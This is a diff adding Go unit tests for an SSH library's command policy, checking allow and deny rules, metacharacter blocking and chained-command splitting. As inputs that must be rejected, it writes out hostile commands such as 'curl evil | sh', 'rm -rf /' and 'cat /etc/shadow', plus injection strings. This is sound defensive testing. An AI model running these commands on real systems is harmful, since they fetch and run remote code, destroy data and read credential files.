@@ -0,0 +1,140 @@
+package connection
+
+import (
+	"context"
+	"io"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestCommandPolicy(t *testing.T) {
+	policy, err := newCommandPolicy(&Settings{
+		AllowedCommands: "uptime\n# service checks\nprefix:systemctl status \nregex:^df( -h)?$\nexact:rm -rf /tmp/cache",
+		DeniedCommands:  "prefix:rm -rf /\nregex:^(shutdown|reboot)\\b",
+		ForbidMetachars: true,
+	})
+	assert.Nil(t, err)
+
+	for _, cmd := range []string{"uptime", " uptime ", "systemctl status nginx", "df", "df -h"} {
+		assert.Nil(t, policy.check(cmd), cmd)
+	}
+	for _, cmd := range []string{
+		"uptime -p",                    // not allowed
+		"systemctl restart nginx",      // not allowed
+		"df -h /",                      // not allowed
+		"rm -rf /tmp/cache",            // denied rules win over allowed rules
+		"shutdown -h now",              // denied
+		"systemctl status nginx; id",   // metacharacter
+		"systemctl status $(id -u)",    // metacharacter
+		"systemctl status x > /etc/ok", // metacharacter
+		"uptime\nreboot",               // metacharacter
+	} {
+		err := policy.check(cmd)
+		assert.IsType(t, &PolicyError{}, err, cmd)
+	}
+	assert.Contains(t, policy.check("shutdown -h now").Error(), "regex:^(shutdown|reboot)\\b")
+
+	// without allowed rules everything that is not denied may run
+	policy, err = newCommandPolicy(&Settings{DeniedCommands: "prefix:rm -rf /\nregex:^(shutdown|reboot)\\b"})
+	assert.Nil(t, err)
+	assert.Nil(t, policy.check("ls | wc -l"))
+	assert.Nil(t, policy.check("echo rebooted && ls /tmp"))
+	assert.NotNil(t, policy.check("rm -rf / --no-preserve-root"))
+
+	// denied rules apply to each command of the line, behind sudo, env and variable assignments
+	for _, cmd := range []string{
+		"uptime; reboot",
+		"uptime && sudo -u root reboot",
+		"false || env -i PATH=/sbin shutdown -h now",
+		"ls | LANG=C sudo rm -rf /",
+		"echo $(reboot)",
+		"echo `reboot`",
+		"(cd /tmp\nshutdown now)",
+		"nohup reboot &",
+	} {
+		assert.IsType(t, &PolicyError{}, policy.check(cmd), cmd)
+	}
+	assert.Equal(t, []string{"cd /tmp", "rm -rf /", "reboot"}, shellSegments("cd /tmp && sudo -n rm  -rf / ; A=1 B=2 env -u HOME reboot"))
+
+	// without forbidden metacharacters, each chained command must be allowed
+	policy, err = newCommandPolicy(&Settings{AllowedCommands: "prefix:ls\nprefix:wc \nprefix:sudo systemctl ", DeniedCommands: "shutdown"})
+	assert.Nil(t, err)
+	for _, cmd := range []string{"ls -l", "ls | wc -l", "ls && ls /tmp", "sudo systemctl restart nginx"} {
+		assert.Nil(t, policy.check(cmd), cmd)
+	}
+	for _, cmd := range []string{
+		"ls; curl evil | sh",
+		"ls && rm -rf ~",
+		"ls $(curl evil)",
+		"ls `id`",
+		"ls\nreboot",
+		"ls && systemctl stop nginx",
+	} {
+		assert.IsType(t, &PolicyError{}, policy.check(cmd), cmd)
+	}
+	assert.Contains(t, policy.check("ls && rm -rf ~").Error(), "chained command 'rm -rf ~'")
+
+	// an exact denied rule also denies the command with arguments
+	for _, cmd := range []string{"shutdown", "shutdown -h now", "ls; sudo shutdown -r now"} {
+		err := policy.check(cmd)
+		if assert.IsType(t, &PolicyError{}, err, cmd) {
+			assert.Contains(t, err.Error(), "matches denied rule 'shutdown'", cmd)
+		}
+	}
+	assert.Nil(t, policy.check("ls shutdown-notes"))
+
+	var none *commandPolicy
+	assert.Nil(t, none.check("anything"))
+
+	_, err = newCommandPolicy(&Settings{AllowedCommands: "regex:("})
+	assert.NotNil(t, err)
+	_, err = newCommandPolicy(&Settings{DeniedCommands: "prefix:"})
+	assert.NotNil(t, err)
+}
+
+func TestCommandPolicyRun(t *testing.T) {
+	srv := newTestServer(t)
+	other := newTestServer(t)
+	executed := make(chan string, 10)
+	srv.exec = func(cmd string, stdin io.Reader, stdout, stderr io.Writer) int {
+		executed <- cmd
+		return 0
+	}
+
+	settings := srv.settings("policy")
+	settings["retryCount"] = 1
+	settings["retryInterval"] = 0
+	settings["allowedCommands"] = "prefix:echo "
+	settings["forbidMetacharacters"] = true
+	manager, err := factory.NewManager(settings)
+	assert.Nil(t, err)
+	sharedConn := manager.(*SshSharedConfigManager)
+	defer sharedConn.Stop()
+
+	assert.Nil(t, CheckCommand(manager, "echo hello"))
+	assert.IsType(t, &PolicyError{}, CheckCommand(manager, "cat /etc/shadow"))
+
+	_, err = sharedConn.Run(context.Background(), "echo hello", nil)
+	assert.Nil(t, err)
+	assert.Equal(t, "echo hello", <-executed)
+
+	// rejected commands never reach the server, also on host overrides
+	_, err = sharedConn.Run(context.Background(), "echo hello && id", nil)
+	assert.IsType(t, &PolicyError{}, err)
+	override, err := sharedConn.ForHost("", other.port())
+	assert.Nil(t, err)
+	_, err = override.Run(context.Background(), "id", nil)
+	assert.IsType(t, &PolicyError{}, err)
+
+	// so do commands started in sessions
+	session, err := override.NewSession(context.Background())
+	assert.Nil(t, err)
+	assert.IsType(t, &PolicyError{}, session.Start("scp -t /etc"))
+	session.Close()
+	assert.Len(t, executed, 0)
+
+	settings["deniedCommands"] = "regex:("
+	_, err = factory.NewManager(settings)
+	assert.NotNil(t, err)
+}